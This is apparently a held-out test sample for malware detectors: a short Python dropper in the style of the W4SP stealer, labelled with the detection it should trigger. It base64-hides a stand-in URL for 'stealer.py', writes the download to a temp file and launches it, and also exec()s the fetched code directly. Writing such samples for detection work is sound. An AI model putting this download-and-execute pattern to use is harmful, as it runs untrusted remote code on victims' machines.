# ruff: noqa
# fmt: off
"""Held-out (written after the detectors, not tuned): a W4SP-stealer-style dropper."""
import os, sys, base64, tempfile
from urllib import request as rq

_u = base64.b64decode(b"aHR0cHM6Ly9jZG4uZXhhbXBsZS11cGRhdGVzLm5ldC9zdGVhbGVyLnB5").decode()
_p = os.path.join(tempfile.gettempdir(), "upd.py")
with open(_p, "wb") as f:
    f.write(rq.urlopen(_u).read())
os.startfile(_p)  # expect: download-execute
exec(rq.urlopen(_u).read().decode())  # expect: download-execute
